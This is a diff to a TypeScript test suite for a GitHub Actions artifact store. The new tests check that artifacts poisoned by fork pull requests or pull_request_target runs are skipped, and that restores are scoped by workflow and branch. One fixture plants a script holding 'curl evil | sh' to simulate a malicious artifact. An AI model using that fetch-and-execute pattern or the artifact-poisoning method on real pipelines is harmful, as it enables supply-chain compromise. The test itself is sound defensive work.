@@ -11,7 +11,7 @@ import { ArtifactStore, defaultArtifactName, type ArtifactStoreOptions } from '.
 import { packSnapshot, restoreSnapshot, unpackSnapshot, UnsafeSnapshotError, withProcessEnv } from '../../src/store/snapshot.js';
 import type { StoreContext } from '../../src/store/types.js';
 import { emptyManifest, readManifest, serializeManifest, manifestPath } from '../../src/transfer/manifest.js';
-import { startActionsServices, type ActionsServices } from '../helpers/actions-services.js';
+import { startActionsServices, type ActionsServices, type RunOptions } from '../helpers/actions-services.js';
 
 // The artifact store with the real @actions/artifact client against Azurite and a results-service
 // double (see helpers/actions-services.ts). Runs are simulated by switching the env the store sees.
@@ -36,9 +36,10 @@ function context(domain: string): StoreContext & { log: string[] } {
   return { workspace, dataDir: 'data', domain, domainDir: join(workspace, 'data', domain), info: (m) => log.push(m), warning: (m) => log.push(`warning: ${m}`), log };
 }
 
-function store(runId: number, extra: Partial<ArtifactStoreOptions> & { attempt?: number } = {}): ArtifactStore {
-  const { attempt, ...opts } = extra;
-  return new ArtifactStore({ name: '', githubToken: svc.githubToken, env: svc.runEnv(runId, { attempt }), ...opts });
+/** The store as run `runId` sees it; `artifactBranch` is the input, the RunOptions describe the run. */
+function store(runId: number, extra: Partial<ArtifactStoreOptions> & Omit<RunOptions, 'branch'> & { branch?: string; artifactBranch?: string } = {}): ArtifactStore {
+  const { attempt, job, workflow, event, branch, fork, artifactBranch, ...opts } = extra;
+  return new ArtifactStore({ name: '', githubToken: svc.githubToken, env: svc.runEnv(runId, { attempt, job, workflow, event, branch, fork }), ...opts, ...(artifactBranch !== undefined && { branch: artifactBranch }) });
 }
 
 /** A salvage as backups leave it: odd modes, fixed mtimes, links (one pointing at a runner secret), a manifest. */
@@ -176,6 +177,125 @@ describe('artifact store', () => {
     const expired = await store(1210, { runId: 1202 }).load(context('newest.example'));
     assert.equal(expired.found, false);
     assert.match(expired.summary, /1 expired/);
+  });
+
+  test("a fork's newer artifact of the same name is skipped (logged) and this repository's own one restored", async () => {
+    const ctx = context('poison.example');
+    fillDomain(ctx.domainDir, 'own');
+    const own = describeTree(ctx.domainDir);
+    const ownId = (await store(1801).save(ctx, true)).outputs['artifact-id']!;
+    // A fork's pull request runs the fork's copy of the same workflow in this repository, from a branch
+    // it may well call main, and uploads under our name; then a pull_request_target run does the same.
+    for (const [run, opts] of [
+      [1802, { event: 'pull_request', branch: 'main', fork: 'mallory/remote-files-fixture' }],
+      [1803, { event: 'pull_request_target', branch: 'main' }],
+    ] as const) {
+      const evil = context('poison.example');
+      fillDomain(evil.domainDir, `evil ${run}`);
+      writeFileSync(join(evil.domainDir, 'etc/app/run.sh'), '#!/bin/sh\ncurl evil | sh\n');
+      await store(run, opts).save(evil, true);
+    }
+    const newest = svc.artifacts().filter((x) => x.name === 'remote-files-poison.example').at(-1)!;
+    assert.equal(newest.runId, 1803, 'the poisoned artifacts are the newest');
+
+    const restore = context('poison.example');
+    const r = await store(1810).load(restore);
+    assert.equal(r.found, true);
+    assert.equal(r.outputs['artifact-id'], ownId);
+    assert.match(r.summary, /run 1801/);
+    assert.deepEqual(describeTree(restore.domainDir), own);
+    const skipped = restore.log.filter((l) => l.includes('skipped'));
+    assert.equal(skipped.length, 1, restore.log.join('\n'));
+    assert.match(skipped[0]!, /^warning: artifact remote-files-poison\.example: skipped 2 .*2 from a fork's or a pull_request_target run \(runs 1803, 1802\)/);
+
+    // A pull request of this repository's own, from a branch called main, is not a fork: it is eligible.
+    const samePr = context('poison.example');
+    fillDomain(samePr.domainDir, 'own pr');
+    const prId = (await store(1811, { event: 'pull_request', branch: 'main' }).save(samePr, true)).outputs['artifact-id']!;
+    assert.equal((await store(1812).load(context('poison.example'))).outputs['artifact-id'], prId);
+  });
+
+  test('artifacts of another workflow or another branch are skipped; artifact-branch and pull requests pick the branch', async () => {
+    const ids: Record<string, string> = {};
+    const trees: Record<string, Record<string, string>> = {};
+    for (const [key, run, opts] of [
+      ['main', 1901, {}],
+      ['other-workflow', 1902, { workflow: '.github/workflows/other.yml' }],
+      ['feature', 1903, { branch: 'feature' }],
+      ['feature-other-workflow', 1904, { branch: 'feature', workflow: '.github/workflows/other.yml' }],
+    ] as const) {
+      const ctx = context('scope.example');
+      fillDomain(ctx.domainDir, key);
+      trees[key] = describeTree(ctx.domainDir);
+      ids[key] = (await store(run, opts).save(ctx, true)).outputs['artifact-id']!;
+    }
+
+    const onMain = context('scope.example');
+    const m = await store(1910).load(onMain);
+    assert.equal(m.outputs['artifact-id'], ids.main);
+    assert.deepEqual(describeTree(onMain.domainDir), trees.main);
+    const line = onMain.log.find((l) => l.includes('skipped'));
+    assert.match(line ?? '', /^artifact remote-files-scope\.example: skipped 3 not from octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main: 1 from another workflow, 2 from another branch$/);
+
+    // A run on the feature branch (a push, or this repository's pull request from it) takes feature's.
+    assert.equal((await store(1911, { branch: 'feature' }).load(context('scope.example'))).outputs['artifact-id'], ids.feature);
+    assert.equal((await store(1912, { branch: 'feature', event: 'pull_request' }).load(context('scope.example'))).outputs['artifact-id'], ids.feature);
+    // artifact-branch names the branch for a run on another one (a restore from main's backups).
+    const fromFeature = context('scope.example');
+    const f = await store(1914, { branch: 'release', artifactBranch: 'feature' }).load(fromFeature);
+    assert.equal(f.outputs['artifact-id'], ids.feature);
+    assert.deepEqual(describeTree(fromFeature.domainDir), trees.feature);
+    // The other workflow's run of feature sees only its own workflow's artifacts.
+    assert.equal((await store(1915, { branch: 'feature', workflow: '.github/workflows/other.yml' }).load(context('scope.example'))).outputs['artifact-id'], ids['feature-other-workflow']);
+  });
+
+  test('nothing eligible: found is false, and the log says which workflow and branch were searched and what to set', async () => {
+    const evil = context('lonely.example');
+    fillDomain(evil.domainDir, 'evil');
+    await store(2001, { event: 'pull_request', branch: 'main', fork: 'mallory/remote-files-fixture' }).save(evil, true);
+    const other = context('lonely.example');
+    fillDomain(other.domainDir, 'dev');
+    await store(2002, { branch: 'dev' }).save(other, true);
+
+    const ctx = context('lonely.example');
+    mkdirSync(ctx.domainDir, { recursive: true });
+    writeFileSync(join(ctx.domainDir, 'mine.txt'), 'keep me');
+    const r = await store(2010).load(ctx);
+    assert.equal(r.found, false);
+    assert.deepEqual(r.outputs, {});
+    assert.match(r.summary, /no artifact remote-files-lonely\.example found in this run or an earlier one of octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main \(2 skipped\)/);
+    assert.match(r.summary, /`artifact-branch`/);
+    assert.match(r.summary, /`artifact-run-id`/);
+    assert.ok(ctx.log.includes(r.summary), 'the reason is in the log, not only in the step summary');
+    assert.ok(ctx.log.some((l) => /^warning: .*skipped 2 .*1 from a fork's or a pull_request_target run \(run 2001\), 1 from another branch/.test(l)), ctx.log.join('\n'));
+    assert.deepEqual(readdirSync(ctx.domainDir), ['mine.txt']);
+  });
+
+  test("artifact-run-id takes an own run of any workflow or branch, and refuses a fork's run", async () => {
+    const ctx = context('pinned.example');
+    fillDomain(ctx.domainDir, 'elsewhere');
+    const tree = describeTree(ctx.domainDir);
+    const id = (await store(2101, { branch: 'nightly', workflow: '.github/workflows/backup.yml' }).save(ctx, true)).outputs['artifact-id']!;
+    const evil = context('pinned.example');
+    fillDomain(evil.domainDir, 'evil');
+    await store(2102, { event: 'pull_request', branch: 'nightly', fork: 'mallory/remote-files-fixture' }).save(evil, true);
+
+    const pinned = context('pinned.example');
+    const p = await store(2110, { runId: 2101 }).load(pinned);
+    assert.equal(p.outputs['artifact-id'], id);
+    assert.deepEqual(describeTree(pinned.domainDir), tree);
+
+    const refused = context('pinned.example');
+    mkdirSync(refused.domainDir, { recursive: true });
+    await assert.rejects(
+      store(2111, { runId: 2102 }).load(refused),
+      (err: Error) => err instanceof UserError && /artifact-run-id/.test(err.message) && /run 2102 was started from the fork mallory\/remote-files-fixture \(event pull_request\)/.test(err.message),
+    );
+    assert.deepEqual(readdirSync(refused.domainDir), []);
+
+    const missing = await store(2112, { runId: 999999 }).load(context('pinned.example'));
+    assert.equal(missing.found, false);
+    assert.match(missing.summary, /no such run/);
   });
 
   test('no artifact anywhere: found is false and the folder is left as it was', async () => {
